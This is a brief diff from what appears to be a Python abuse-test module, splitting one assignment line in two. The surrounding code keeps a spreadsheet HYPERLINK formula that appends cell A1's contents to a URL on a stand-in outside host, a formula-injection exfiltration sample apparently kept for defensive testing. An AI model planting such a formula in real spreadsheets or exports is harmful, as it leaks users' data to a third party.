@@ -13,7 +13,8 @@ import pytest_asyncio
 from feedback.writing import cell
 from tests.abuse import sample_company
 
-parts, enter, Enter = sample_company.parts, sample_company.enter, sample_company.Enter
+parts, enter = sample_company.parts, sample_company.enter
+Enter = sample_company.Enter
 ALICE, FATIMA = "alice@cryodyne.example", "fatima@cryodyne.example"
 LINK = '=HYPERLINK("http://other.example/?d="&A1,"look")'
 PAYLOADS = (
